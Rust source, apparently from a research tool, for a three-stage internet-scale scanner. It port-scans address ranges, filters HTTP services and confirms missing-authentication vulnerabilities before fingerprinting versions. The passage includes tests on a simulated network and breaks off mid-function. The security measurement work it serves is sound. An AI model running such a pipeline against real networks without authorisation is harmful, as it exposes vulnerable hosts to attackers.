        let mut batches: Vec<PortScanResult> = Vec::new();
        let total = self
            .scanner
            .scan_batched(client.transport(), self.config.blocks_per_batch, |batch| {
                batches.push(batch.clone());
            })
            .await;
        report.addresses_probed = total.addresses_probed;
        report.probes_sent = total.probes_sent;
        for (port, n) in &total.open_per_port {
            report.port_stats.entry(*port).or_default().open = *n;
        }

        for batch in batches {
            self.process_batch(client, &batch, &mut report).await;
        }
        report
    }

    /// Stages II + III for one batch of stage-I results.
    async fn process_batch<T: Transport>(
        &self,
        client: &Client<T>,
        batch: &PortScanResult,
        report: &mut ScanReport,
    ) {
        // Exclude all-ports-open artifacts.
        let by_host = batch.by_host();
        let mut endpoints = Vec::new();
        for (ip, ports) in &by_host {
            if ports.len() >= self.config.tarpit_port_threshold {
                report.excluded_all_ports_open += 1;
                continue;
            }
            for port in ports {
                endpoints.push(nokeys_http::Endpoint::new(*ip, *port));
            }
        }

        // Stage II.
        let prefilter_result = self.prefilter.run(client, &endpoints).await;
        report.prefilter_discarded += prefilter_result.discarded;
        report.prefilter_silent += prefilter_result.silent;
        report.prefilter_hits += prefilter_result.hits.len() as u64;
        for (port, stats) in &prefilter_result.per_port {
            let entry = report.port_stats.entry(*port).or_default();
            entry.http += stats.http;
            entry.https += stats.https;
        }

        // Group hits per host: one finding per (host, application).
        let mut per_host: BTreeMap<Ipv4Addr, Vec<&PrefilterHit>> = BTreeMap::new();
        for hit in &prefilter_result.hits {
            per_host.entry(hit.endpoint.ip).or_default().push(hit);
        }

        // Stage III + fingerprinting.
        for (_ip, hits) in per_host {
            report
                .findings
                .extend(self.verify_host(client, &hits).await);
        }
    }

    /// Verify one host, producing one finding per *application* the host
    /// runs. An application running on several ports of the host is
    /// counted once (the paper's counting rule); distinct applications on
    /// distinct ports each count.
    async fn verify_host<T: Transport>(
        &self,
        client: &Client<T>,
        hits: &[&PrefilterHit],
    ) -> Vec<HostFinding> {
        // Which endpoints does each candidate application appear on, and
        // which application is each endpoint's *strongest* match?
        let mut endpoints_of: BTreeMap<AppId, Vec<&PrefilterHit>> = BTreeMap::new();
        let mut primary_of: BTreeMap<AppId, &PrefilterHit> = BTreeMap::new();
        for hit in hits {
            for &app in &hit.candidates {
                endpoints_of.entry(app).or_default().push(hit);
            }
            if let Some(&best) = hit.candidates.first() {
                primary_of.entry(best).or_insert(hit);
            }
        }

        let mut findings = Vec::new();
        for (app, app_hits) in endpoints_of {
            // Stage III: a MAV on any of the app's endpoints confirms it.
            let mut confirmed: Option<&PrefilterHit> = None;
            if self.config.verify {
                for hit in &app_hits {
                    if detect_mav(client, app, hit.endpoint, hit.scheme).await {
                        confirmed = Some(hit);
                        break;
                    }
                }
            }
            // Attribute the host to this application if a plugin
            // confirmed it, or if it is the strongest match of one of
            // the host's endpoints (weak secondary matches alone do not
            // create findings).
            let hit = match (confirmed, primary_of.get(&app)) {
                (Some(hit), _) => hit,
                (None, Some(hit)) => hit,
                (None, None) => continue,
            };
            let mut finding = HostFinding {
                endpoint: hit.endpoint,
                scheme: hit.scheme,
                app,
                vulnerable: confirmed.is_some(),
                version: None,
                fingerprint_method: None,
            };
            if self.config.fingerprint {
                if let Some((version, method)) = self
                    .fingerprinter
                    .fingerprint(client, app, hit.endpoint, hit.scheme)
                    .await
                {
                    finding.version = Some(version);
                    finding.fingerprint_method = Some(method);
                }
            }
            findings.push(finding);
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_netsim::{SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    async fn run_tiny() -> (Client<SimTransport>, ScanReport) {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))));
        let client = Client::new(t);
        let pipeline = Pipeline::new(PipelineConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let report = pipeline.run(&client).await;
        (client, report)
    }

    #[tokio::test]
    async fn pipeline_matches_ground_truth_per_app() {
        let (client, report) = run_tiny().await;
        let universe = client.transport().universe();

        for app in AppId::in_scope() {
            let truth_hosts = universe
                .hosts()
                .filter(|h| h.awe().map(|(_, a)| a) == Some(app))
                .count() as u64;
            let truth_mavs = universe
                .vulnerable_hosts()
                .filter(|h| h.awe().map(|(_, a)| a) == Some(app))
                .count() as u64;
            assert_eq!(
                report.hosts_running(app),
                truth_hosts,
                "{app}: host count mismatch"
            );
            assert_eq!(report.mavs(app), truth_mavs, "{app}: MAV count mismatch");
        }
    }

    #[tokio::test]
    async fn pipeline_excludes_tarpits() {
        let (client, report) = run_tiny().await;
        let tarpits = client
            .transport()
            .universe()
            .hosts()
            .filter(|h| h.tarpit)
            .count() as u64;
        assert_eq!(report.excluded_all_ports_open, tarpits);
    }

    #[tokio::test]
    async fn pipeline_discards_background_noise() {
        let (_, report) = run_tiny().await;
        assert!(report.prefilter_discarded > 0);
        // Nothing in the findings is a background host.
        for f in &report.findings {
            assert!(AppId::in_scope().any(|a| a == f.app));
        }
    }

    #[tokio::test]
    async fn fingerprints_cover_most_findings() {
        let (_, report) = run_tiny().await;
        assert!(
            report.fingerprint_coverage() > 0.9,
            "coverage = {}",
            report.fingerprint_coverage()
        );
    }

    #[tokio::test]
    async fn port_stats_have_open_counts() {
        let (_, report) = run_tiny().await;
        assert!(report.port_stats.get(&80).map(|s| s.open).unwrap_or(0) > 0);
        // Port 80 never records HTTPS.
        assert_eq!(report.port_stats.get(&80).map(|s| s.https).unwrap_or(0), 0);
    }
}
