//! The full three-stage pipeline.
//!
//! Orchestrates stage I (port scan), artifact exclusion ("3.0M hosts that
//! appeared to always have all ports open ... we excluded them"), stage
//! II (prefilter), stage III (MAV plugins) and version fingerprinting
//! into a single [`ScanReport`].
//!
//! # Concurrency model
//!
//! The stages are *overlapped*: stage I streams each completed
//! /24-batch through a bounded channel while the sweep continues, and
//! the consumer runs stages II/III on it with up to
//! [`PipelineConfig::parallelism`] probes (stage II) or host
//! verifications (stage III + fingerprinting) in flight at once, each
//! fan-out a `JoinSet` bounded by a semaphore.
//!
//! # Determinism
//!
//! Concurrency never changes the report. Batches are tagged with
//! sequence indices and processed in order; within a batch, stage-II
//! probes are merged in endpoint order and stage-III verifications in
//! host order, so a fixed seed yields a bit-for-bit identical
//! [`ScanReport`] at any `parallelism` (Tables 2–4 and Figure 2 depend
//! on this). This holds with fault injection enabled too: the simulated
//! transport keys its fault stream per `(endpoint, lane, attempt
//! ordinal)`, never on global execution order, so fault-injected
//! replays are exact at any parallelism — which is why the default
//! `parallelism` is 8 rather than 1.
//!
//! # Fault tolerance
//!
//! Transient network failures are retried at the transport layer:
//! [`Pipeline::run`] wraps the caller's transport in a
//! [`RetryTransport`] driven by [`PipelineConfig::retry`], giving
//! stage-I probes, stage-II fetches, stage-III plugin requests and the
//! fingerprinter a shared seeded retry/backoff budget (the analogue of
//! masscan's SYN retransmits and the paper's §3.5 rescans). A host task
//! that dies is absorbed into [`ScanReport::task_failures`] instead of
//! aborting an internet-scale sweep; only the loss of stage I itself
//! surfaces as a [`PipelineError`].

use crate::checkpoint::{CheckpointError, ConfigFingerprint, ScanCheckpoint, CHECKPOINT_FORMAT};
use crate::fingerprint::Fingerprinter;
use crate::plugin::detect_mav_instrumented;
use crate::portscan::{Cidr, PortScanConfig, PortScanResult, PortScanner, SweepMsg};
use crate::prefilter::{Prefilter, PrefilterHit};
use crate::report::{HostFinding, ScanReport};
use crate::retry::{RetryPolicy, RetryTransport};
use crate::telemetry::{Counter, Histogram, Telemetry};
use nokeys_apps::AppId;
use nokeys_http::{Client, Transport};
use std::collections::BTreeMap;
use std::fmt;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// A whole-pipeline failure.
///
/// Per-host and per-endpoint problems never surface here — they are
/// retried, then absorbed into [`ScanReport::task_failures`] — so a
/// single poisoned host cannot abort an internet-scale sweep. Only
/// losing stage I itself (no batches, no totals, nothing to report) is
/// an error.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum PipelineError {
    /// The stage-I sweep task died before delivering its totals.
    SweepFailed(String),
    /// Reading, writing or validating a [`ScanCheckpoint`] failed.
    /// Surfaced as a whole-pipeline error because a run that cannot
    /// checkpoint does not deliver the crash-safety it was asked for.
    Checkpoint(CheckpointError),
}

impl fmt::Display for PipelineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PipelineError::SweepFailed(e) => write!(f, "stage-I sweep task failed: {e}"),
            PipelineError::Checkpoint(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for PipelineError {}

impl From<CheckpointError> for PipelineError {
    fn from(e: CheckpointError) -> Self {
        PipelineError::Checkpoint(e)
    }
}

/// Pipeline configuration.
///
/// Construct via [`PipelineConfig::builder`]; the struct is
/// `#[non_exhaustive]` so new knobs (like [`telemetry`](Self::telemetry))
/// can be added without breaking downstream construction sites.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct PipelineConfig {
    /// Stage-I configuration.
    pub portscan: PortScanConfig,
    /// /24 blocks per batch ("we always selected and scanned a fraction
    /// of all hosts with our full pipeline before we continued").
    pub blocks_per_batch: usize,
    /// Hosts with at least this many open scan ports are treated as
    /// all-ports-open artifacts and excluded.
    pub tarpit_port_threshold: usize,
    /// Run the version fingerprinter on identified hosts.
    pub fingerprint: bool,
    /// Run stage III plugins (disabling this is only useful for the
    /// prefilter ablation bench).
    pub verify: bool,
    /// Maximum in-flight stage-II probes / stage-III host verifications
    /// (default 8; `1` runs the stages strictly sequentially). Any
    /// value produces the identical report, fault injection included.
    /// The builder rejects `0`.
    pub parallelism: usize,
    /// Number of shard workers the target space is split across
    /// (default 1: the single streaming pipeline). With `shards > 1`,
    /// [`Pipeline::run`] partitions the batch sequence into contiguous
    /// shards scanned by independent worker tasks with work-stealing,
    /// and reduces their partial reports in address order — the report
    /// and telemetry snapshot are byte-identical at any shard count,
    /// like `parallelism` (see the [`shard`](crate::shard) module).
    /// The builder rejects `0`.
    pub shards: usize,
    /// Transport-level retry/backoff applied to every probe and connect
    /// during [`Pipeline::run`] (default: 3 attempts, deterministic
    /// capped-exponential backoff on the virtual clock). Use
    /// [`RetryPolicy::disabled`] to scan without retries.
    pub retry: RetryPolicy,
    /// Reuse one per-worker [`Scratch`](crate::scratch::Scratch) arena
    /// across each stage II/III worker loop (default `true`); `false`
    /// allocates a fresh arena per probe/host. Both settings produce
    /// byte-identical reports and telemetry — the knob exists for the
    /// equivalence suite and for A/B benching, and is deliberately
    /// *not* part of the checkpoint
    /// [`ConfigFingerprint`](crate::checkpoint::ConfigFingerprint):
    /// toggling a pure performance setting must not invalidate a
    /// resumable scan.
    pub scratch_reuse: bool,
    /// Telemetry registry the pipeline records into. `None` gives the
    /// pipeline a private registry, still reachable through
    /// [`Pipeline::telemetry`]; pass a shared one to aggregate several
    /// pipelines (or external components) into a single snapshot.
    pub telemetry: Option<Telemetry>,
    /// When set, [`Pipeline::run`] persists a [`ScanCheckpoint`] to this
    /// path every [`checkpoint_every`](Self::checkpoint_every) batches
    /// (and once more at the end, marked finished), so a killed scan can
    /// continue via [`Pipeline::resume`].
    pub checkpoint_path: Option<PathBuf>,
    /// Batches between checkpoint writes (default 8). Only meaningful
    /// with [`checkpoint_path`](Self::checkpoint_path) set.
    pub checkpoint_every: u64,
}

impl PipelineConfig {
    /// Start building a configuration over `targets` with the paper's
    /// defaults (12 ports, batches of 64 blocks, 8-way stage II/III
    /// concurrency, 3 attempts per network operation, fingerprinting
    /// and verification on).
    pub fn builder(targets: Vec<Cidr>) -> PipelineConfigBuilder {
        PipelineConfigBuilder {
            portscan: PortScanConfig::new(targets),
            blocks_per_batch: 64,
            tarpit_port_threshold: None,
            fingerprint: true,
            verify: true,
            parallelism: 8,
            shards: 1,
            retry: RetryPolicy::default(),
            scratch_reuse: true,
            telemetry: None,
            checkpoint_path: None,
            checkpoint_every: 8,
        }
    }
}

/// Fluent builder for [`PipelineConfig`].
///
/// ```
/// use nokeys_scanner::pipeline::PipelineConfig;
///
/// let config = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
///     .blocks_per_batch(64)
///     .parallelism(8)
///     .build();
/// assert_eq!(config.parallelism, 8);
/// ```
#[derive(Debug, Clone)]
pub struct PipelineConfigBuilder {
    portscan: PortScanConfig,
    blocks_per_batch: usize,
    tarpit_port_threshold: Option<usize>,
    fingerprint: bool,
    verify: bool,
    parallelism: usize,
    shards: usize,
    retry: RetryPolicy,
    scratch_reuse: bool,
    telemetry: Option<Telemetry>,
    checkpoint_path: Option<PathBuf>,
    checkpoint_every: u64,
}

impl PipelineConfigBuilder {
    /// Replace the entire stage-I configuration (targets included).
    pub fn portscan(mut self, portscan: PortScanConfig) -> Self {
        self.portscan = portscan;
        self
    }

    /// Ports probed by stage I (defaults to the paper's 12).
    pub fn ports(mut self, ports: Vec<u16>) -> Self {
        self.portscan.ports = ports;
        self
    }

    /// Seed for the stage-I /24 shuffle.
    pub fn seed(mut self, seed: u64) -> Self {
        self.portscan.seed = seed;
        self
    }

    /// Whether stage I skips IANA-reserved ranges.
    pub fn exclude_reserved(mut self, exclude: bool) -> Self {
        self.portscan.exclude_reserved = exclude;
        self
    }

    /// Probe-rate ceiling in probes/second (`None` scans at full speed).
    pub fn max_probes_per_sec(mut self, rate: Option<f64>) -> Self {
        self.portscan.max_probes_per_sec = rate;
        self
    }

    /// Force stage I to probe every (address, port) pair one at a time
    /// instead of the sparse block-sweep fast path. Reports and
    /// telemetry are byte-identical either way; this is a
    /// differential-testing oracle, not a tuning knob.
    pub fn dense_sweep(mut self, dense: bool) -> Self {
        self.portscan.dense_sweep = dense;
        self
    }

    /// /24 blocks handed to stages II/III per batch.
    pub fn blocks_per_batch(mut self, blocks: usize) -> Self {
        self.blocks_per_batch = blocks;
        self
    }

    /// Open-port count at which a host is discarded as an all-ports-open
    /// artifact. Defaults to the number of scan ports.
    pub fn tarpit_port_threshold(mut self, threshold: usize) -> Self {
        self.tarpit_port_threshold = Some(threshold);
        self
    }

    /// Run the version fingerprinter on identified hosts.
    pub fn fingerprint(mut self, enabled: bool) -> Self {
        self.fingerprint = enabled;
        self
    }

    /// Run stage III plugins.
    pub fn verify(mut self, enabled: bool) -> Self {
        self.verify = enabled;
        self
    }

    /// Maximum in-flight stage-II probes / stage-III verifications.
    ///
    /// # Panics
    ///
    /// Panics on `0` — a zero-width pipeline can never make progress,
    /// and silently clamping it would hide a configuration bug.
    pub fn parallelism(mut self, parallelism: usize) -> Self {
        assert!(parallelism > 0, "pipeline parallelism must be at least 1");
        self.parallelism = parallelism;
        self
    }

    /// Shard workers the batch sequence is split across. `1` (the
    /// default) keeps the single streaming pipeline; higher values run
    /// the [`shard`](crate::shard) orchestrator. Any value produces the
    /// identical report and telemetry snapshot.
    ///
    /// # Panics
    ///
    /// Panics on `0` — zero shard workers can never make progress, and
    /// silently clamping would hide a configuration bug.
    pub fn shards(mut self, shards: usize) -> Self {
        assert!(shards > 0, "pipeline shards must be at least 1");
        self.shards = shards;
        self
    }

    /// Total attempts per network operation (probe, connect, fetch).
    /// `0` and `1` both mean "no retries"; the default is 3. Keeps the
    /// rest of the configured [`RetryPolicy`] intact.
    pub fn retries(mut self, attempts: u32) -> Self {
        self.retry.max_attempts = attempts.max(1);
        self
    }

    /// Replace the whole transport retry/backoff policy.
    pub fn retry_policy(mut self, retry: RetryPolicy) -> Self {
        self.retry = retry;
        self
    }

    /// Reuse per-worker scratch arenas across the stage II/III loops
    /// (default `true`). Purely a performance setting: reports and
    /// telemetry are byte-identical either way.
    pub fn scratch_reuse(mut self, enabled: bool) -> Self {
        self.scratch_reuse = enabled;
        self
    }

    /// Record pipeline metrics into a shared telemetry registry.
    pub fn telemetry(mut self, telemetry: Telemetry) -> Self {
        self.telemetry = Some(telemetry);
        self
    }

    /// Persist a [`ScanCheckpoint`] to `path` during [`Pipeline::run`].
    pub fn checkpoint_path(mut self, path: impl Into<PathBuf>) -> Self {
        self.checkpoint_path = Some(path.into());
        self
    }

    /// Batches between checkpoint writes.
    ///
    /// # Panics
    ///
    /// Panics on `0` — a checkpoint cadence of zero batches is a
    /// configuration bug, not a request for no checkpoints (drop
    /// [`checkpoint_path`](Self::checkpoint_path) for that).
    pub fn checkpoint_every(mut self, batches: u64) -> Self {
        assert!(batches > 0, "checkpoint_every must be at least 1");
        self.checkpoint_every = batches;
        self
    }

    /// Finalize the configuration.
    ///
    /// Target CIDRs are normalized here: exact duplicates and blocks
    /// contained in another target are dropped, and the survivors are
    /// sorted by base address. Aligned CIDR blocks either nest or are
    /// disjoint, so this leaves a disjoint cover of the same address
    /// set — listing `10.0.0.0/16` twice, or alongside `10.0.5.0/24`,
    /// scans each address exactly once.
    pub fn build(mut self) -> PipelineConfig {
        self.portscan.targets = normalize_targets(std::mem::take(&mut self.portscan.targets));
        let tarpit_port_threshold = self
            .tarpit_port_threshold
            .unwrap_or(self.portscan.ports.len());
        PipelineConfig {
            portscan: self.portscan,
            blocks_per_batch: self.blocks_per_batch,
            tarpit_port_threshold,
            fingerprint: self.fingerprint,
            verify: self.verify,
            parallelism: self.parallelism,
            shards: self.shards,
            retry: self.retry,
            scratch_reuse: self.scratch_reuse,
            telemetry: self.telemetry,
            checkpoint_path: self.checkpoint_path,
            checkpoint_every: self.checkpoint_every,
        }
    }
}

/// Drop duplicate and nested target blocks, sorting the survivors.
///
/// Aligned CIDR blocks either nest or are disjoint — two blocks can
/// never partially overlap — so after sorting by `(base, prefix)` a
/// contained block always directly follows (one of) its containers, and
/// a single pass keeping blocks not covered by the last survivor yields
/// a minimal disjoint cover of the same addresses.
fn normalize_targets(mut targets: Vec<Cidr>) -> Vec<Cidr> {
    targets.sort_by_key(|c| (c.base, c.prefix));
    let mut out: Vec<Cidr> = Vec::with_capacity(targets.len());
    for t in targets {
        let covered = out
            .last()
            .is_some_and(|last| last.contains(t.first()) && last.contains(t.last()));
        if !covered {
            out.push(t);
        }
    }
    out
}

/// Cached pipeline-level telemetry handles (stage-level instruments live
/// in the stage components themselves).
#[derive(Debug, Clone)]
struct PipelineMetrics {
    /// `pipeline.batches` — stage-I batches processed by stages II/III.
    batches: Counter,
    /// `pipeline.tarpit_excluded` — hosts dropped as all-ports-open.
    tarpit_excluded: Counter,
    /// `pipeline.findings` — host/application findings reported.
    findings: Counter,
    /// `pipeline.mavs` — findings a stage-III plugin confirmed.
    mavs: Counter,
    /// `pipeline.open_ports_per_host` — open scan ports on responsive
    /// hosts (tarpits included, so the top bucket exposes them).
    open_ports_per_host: Histogram,
    /// `pipeline.task_failures` — stage-III host tasks that died and
    /// were absorbed instead of aborting the sweep.
    task_failures: Counter,
}

impl PipelineMetrics {
    fn new(telemetry: &Telemetry) -> Self {
        PipelineMetrics {
            batches: telemetry.counter("pipeline.batches"),
            tarpit_excluded: telemetry.counter("pipeline.tarpit_excluded"),
            findings: telemetry.counter("pipeline.findings"),
            mavs: telemetry.counter("pipeline.mavs"),
            open_ports_per_host: telemetry.histogram("pipeline.open_ports_per_host", &[1, 2, 4, 8]),
            task_failures: telemetry.counter("pipeline.task_failures"),
        }
    }

    fn note_findings(&self, findings: &[HostFinding]) {
        self.findings.add(findings.len() as u64);
        self.mavs
            .add(findings.iter().filter(|f| f.vulnerable).count() as u64);
    }
}

/// Stages II + III for one batch of stage-I results, bound to one
/// telemetry registry.
///
/// Extracted from [`Pipeline`] so the [`shard`](crate::shard) layer can
/// run one processor per worker against a private staging registry; the
/// pipeline itself owns one bound to its main registry.
pub(crate) struct BatchProcessor {
    telemetry: Telemetry,
    prefilter: Arc<Prefilter>,
    fingerprinter: Arc<Fingerprinter>,
    metrics: PipelineMetrics,
    tarpit_port_threshold: usize,
    verify: bool,
    fingerprint: bool,
    parallelism: usize,
    scratch_reuse: bool,
}

/// Shared state of one stage-III verify fan-out: hosts are claimed from
/// an atomic cursor by persistent worker loops and each result is
/// written to its host's slot, so the merge (by host index) is
/// independent of completion order.
struct VerifyQueue {
    /// `Some(hits)` until the owning worker claims the host.
    hosts: Vec<std::sync::Mutex<Option<Vec<PrefilterHit>>>>,
    cursor: std::sync::atomic::AtomicUsize,
    results: Vec<std::sync::OnceLock<Vec<HostFinding>>>,
}

/// The pipeline.
pub struct Pipeline {
    config: PipelineConfig,
    telemetry: Telemetry,
    scanner: PortScanner,
    processor: BatchProcessor,
}

impl Pipeline {
    pub fn new(config: PipelineConfig) -> Self {
        let telemetry = config.telemetry.clone().unwrap_or_default();
        let scanner = PortScanner::with_telemetry(config.portscan.clone(), &telemetry);
        let processor = BatchProcessor::new(&config, &telemetry);
        Pipeline {
            config,
            telemetry,
            scanner,
            processor,
        }
    }

    /// The telemetry registry this pipeline records into (the one passed
    /// via [`PipelineConfigBuilder::telemetry`], or a private default).
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    /// Run the full pipeline over the configured target space.
    ///
    /// Stage I runs in its own task and hands each /24-batch through a
    /// bounded channel as soon as it completes; stages II/III process
    /// the batches (concurrently, up to `config.parallelism`) while the
    /// sweep continues. The caller's transport is wrapped in a
    /// [`RetryTransport`] for the duration of the run, so every network
    /// operation of every stage shares [`PipelineConfig::retry`].
    /// With [`PipelineConfig::checkpoint_path`] set, the run starts from
    /// scratch (ignoring any file already at that path) and persists a
    /// [`ScanCheckpoint`] every [`PipelineConfig::checkpoint_every`]
    /// batches; use [`Pipeline::resume`] to continue from such a file.
    ///
    /// With [`PipelineConfig::shards`] above 1, the batch sequence is
    /// instead partitioned across that many shard workers with
    /// work-stealing (see the [`shard`](crate::shard) module); the
    /// report and telemetry snapshot are byte-identical either way.
    pub async fn run<T>(&self, client: &Client<T>) -> Result<ScanReport, PipelineError>
    where
        T: Transport + Clone + 'static,
    {
        if self.config.shards > 1 {
            return self.run_with_shard_stats(client).await.map(|(r, _)| r);
        }
        if let Some(path) = self.config.checkpoint_path.clone() {
            // A fresh run starts from scratch: per-shard files left by
            // an earlier sharded run at this path must not bleed into a
            // later resume of *this* run's checkpoint.
            for stale in crate::shard::existing_shard_files(&path) {
                let _ = std::fs::remove_file(stale);
            }
            return self.run_checkpointed(client, &path, None).await;
        }
        let retrying = client.with_transport(RetryTransport::new(
            client.transport().clone(),
            self.config.retry.clone(),
            &self.telemetry,
        ));
        self.run_inner(&retrying).await
    }

    /// [`run`](Self::run) through the [`shard`](crate::shard)
    /// orchestrator (even at `shards = 1`), additionally returning the
    /// per-run [`ShardStats`](crate::shard::ShardStats) — work-stealing
    /// observability that deliberately lives *outside* the telemetry
    /// registry, because which worker ran which batch is
    /// timing-dependent and the registry must stay byte-identical
    /// across runs.
    pub async fn run_with_shard_stats<T>(
        &self,
        client: &Client<T>,
    ) -> Result<(ScanReport, crate::shard::ShardStats), PipelineError>
    where
        T: Transport + Clone + 'static,
    {
        crate::shard::run_sharded(
            &self.config,
            &self.telemetry,
            client,
            self.config.checkpoint_path.as_deref(),
            false,
            None,
        )
        .await
    }

    /// Continue a checkpointed scan from the [`ScanCheckpoint`] at
    /// `path`, producing a [`ScanReport`] byte-identical to what the
    /// uninterrupted run would have produced (telemetry snapshot
    /// included), at any `parallelism`.
    ///
    /// The checkpoint's recorded configuration fingerprint must match
    /// this pipeline's report-affecting knobs (targets, ports, seeds,
    /// retry budget, …) — resuming under a different configuration
    /// returns [`CheckpointError::ConfigMismatch`]. Parallelism and
    /// wall-clock pacing may differ freely; they never change the
    /// report. Subsequent checkpoints are written back to `path`. A
    /// checkpoint marked finished warm-resumes: the stored report is
    /// returned (and its telemetry replayed into the registry) without
    /// touching the network.
    ///
    /// The pipeline must use a **fresh (or otherwise pipeline-private)
    /// telemetry registry** when resuming: the checkpointed snapshot is
    /// replayed into [`Pipeline::telemetry`], so pre-existing pipeline
    /// counts would be double-counted.
    ///
    /// Shard count is deliberately *not* fingerprinted: a checkpoint
    /// taken at `--shards 4` resumes at `--shards 8` (or 1). Resume
    /// routes through the [`shard`](crate::shard) orchestrator whenever
    /// this pipeline is sharded **or** per-shard checkpoint files
    /// (`<path>.shard-*`) exist next to `path`, whichever generation
    /// wrote them.
    pub async fn resume<T>(
        &self,
        client: &Client<T>,
        path: impl AsRef<Path>,
    ) -> Result<ScanReport, PipelineError>
    where
        T: Transport + Clone + 'static,
    {
        let path = path.as_ref();
        if self.config.shards > 1 || !crate::shard::existing_shard_files(path).is_empty() {
            return crate::shard::run_sharded(
                &self.config,
                &self.telemetry,
                client,
                Some(path),
                true,
                None,
            )
            .await
            .map(|(report, _)| report);
        }
        let checkpoint = ScanCheckpoint::load(path)?;
        checkpoint.validate(&ConfigFingerprint::of(&self.config))?;
        self.run_checkpointed(client, path, Some(checkpoint)).await
    }

    /// Effective stage II/III concurrency. The builder rejects `0`;
    /// this clamp only guards direct mutation of the public field.
    fn parallelism(&self) -> usize {
        self.config.parallelism.max(1)
    }

    async fn run_inner<T>(&self, client: &Client<T>) -> Result<ScanReport, PipelineError>
    where
        T: Transport + Clone + 'static,
    {
        let mut report = ScanReport::default();
        let parallelism = self.parallelism();

        // Stage I: stream batches while the sweep continues. The channel
        // bound keeps the sweep at most a few batches ahead of the
        // verifier, limiting scan-vs-verify staleness and memory.
        let (tx, mut rx) = tokio::sync::mpsc::channel(parallelism.max(2));
        let scanner = self.scanner.clone();
        let transport = client.transport().clone();
        let blocks_per_batch = self.config.blocks_per_batch;
        let sweep =
            tokio::spawn(
                async move { scanner.scan_stream(&transport, blocks_per_batch, tx).await },
            );

        // Stages II + III, in batch-sequence order (deterministic merge).
        // Stage-I totals accumulate per batch (rather than from the
        // sweep's end-of-run totals) so a checkpointed prefix of the
        // same loop carries the same counts.
        let mut next_seq = 0u64;
        while let Some((seq, batch)) = rx.recv().await {
            debug_assert_eq!(seq, next_seq, "batches must arrive in sweep order");
            next_seq = seq + 1;
            BatchProcessor::accumulate_sweep_counts(&mut report, &batch);
            self.processor
                .process_batch(client, batch, &mut report)
                .await;
        }

        let totals = sweep
            .await
            .map_err(|e| PipelineError::SweepFailed(e.to_string()))?;
        debug_assert_eq!(totals.probes_sent, report.probes_sent);
        debug_assert_eq!(totals.addresses_probed, report.addresses_probed);
        Ok(report)
    }

    /// [`run_inner`](Self::run_inner) with checkpoint persistence.
    ///
    /// Byte-identity across a kill/resume hinges on one invariant: when
    /// a checkpoint is written, the main telemetry registry must hold
    /// *exactly* the work of the batches processed so far — even though
    /// the stage-I sweep task has raced a few batches ahead. The sweep
    /// therefore records into a private staging registry (its scanner
    /// metrics *and* its own [`RetryTransport`]) and attaches each
    /// batch's telemetry delta to the batch message; the consumer
    /// absorbs the delta only when it processes the batch. Telemetry
    /// recorded after the final emitted batch (trailing all-reserved
    /// blocks sweep counters, for example) arrives in a final
    /// [`SweepMsg::Epilogue`].
    async fn run_checkpointed<T>(
        &self,
        client: &Client<T>,
        path: &Path,
        prior: Option<ScanCheckpoint>,
    ) -> Result<ScanReport, PipelineError>
    where
        T: Transport + Clone + 'static,
    {
        let fingerprint = ConfigFingerprint::of(&self.config);
        let (mut report, first_batch) = match prior {
            Some(checkpoint) if checkpoint.finished => {
                // Warm resume: the stored prefix is the whole run.
                self.telemetry.absorb(&checkpoint.telemetry);
                return Ok(checkpoint.report);
            }
            Some(checkpoint) => {
                self.telemetry.absorb(&checkpoint.telemetry);
                (checkpoint.report, checkpoint.batches_done)
            }
            None => (ScanReport::default(), 0),
        };
        let parallelism = self.parallelism();

        // Stages II/III record into the main registry as usual…
        let retrying = client.with_transport(RetryTransport::new(
            client.transport().clone(),
            self.config.retry.clone(),
            &self.telemetry,
        ));
        // …while the sweep gets the staging registry: a staged scanner
        // plus a staging-bound retry transport (the probe retry lane is
        // used by stage I only, so splitting the transports never splits
        // a counter between registries).
        let staging = Telemetry::new();
        let scanner = PortScanner::with_telemetry(self.config.portscan.clone(), &staging);
        let sweep_transport = RetryTransport::new(
            client.transport().clone(),
            self.config.retry.clone(),
            &staging,
        );
        let blocks_per_batch = self.config.blocks_per_batch;
        let (tx, mut rx) = tokio::sync::mpsc::channel(parallelism.max(2));
        let sweep_staging = staging.clone();
        let sweep = tokio::spawn(async move {
            scanner
                .scan_stream_staged(
                    &sweep_transport,
                    blocks_per_batch,
                    first_batch,
                    &sweep_staging,
                    tx,
                )
                .await
        });

        let every = self.config.checkpoint_every.max(1);
        let mut batches_done = first_batch;
        while let Some(msg) = rx.recv().await {
            match msg {
                SweepMsg::Batch { seq, batch, delta } => {
                    debug_assert_eq!(seq, batches_done, "batches must arrive in sweep order");
                    self.telemetry.absorb(&delta);
                    BatchProcessor::accumulate_sweep_counts(&mut report, &batch);
                    self.processor
                        .process_batch(&retrying, batch, &mut report)
                        .await;
                    batches_done = seq + 1;
                    if batches_done % every == 0 {
                        // Synchronous write between awaits: an abort can
                        // never leave a torn checkpoint behind.
                        self.write_checkpoint(path, &fingerprint, batches_done, false, &report)?;
                    }
                }
                SweepMsg::Epilogue { delta } => self.telemetry.absorb(&delta),
            }
        }
        sweep
            .await
            .map_err(|e| PipelineError::SweepFailed(e.to_string()))?;
        self.write_checkpoint(path, &fingerprint, batches_done, true, &report)?;
        Ok(report)
    }

    fn write_checkpoint(
        &self,
        path: &Path,
        fingerprint: &ConfigFingerprint,
        batches_done: u64,
        finished: bool,
        report: &ScanReport,
    ) -> Result<(), PipelineError> {
        let checkpoint = ScanCheckpoint {
            format: CHECKPOINT_FORMAT,
            fingerprint: fingerprint.clone(),
            batches_done,
            finished,
            report: report.clone(),
            telemetry: self.telemetry.snapshot(),
        };
        checkpoint.save(path)?;
        Ok(())
    }
}

impl BatchProcessor {
    /// Build a processor for `config`, registering the stage II/III
    /// instruments into `telemetry`.
    pub(crate) fn new(config: &PipelineConfig, telemetry: &Telemetry) -> Self {
        BatchProcessor {
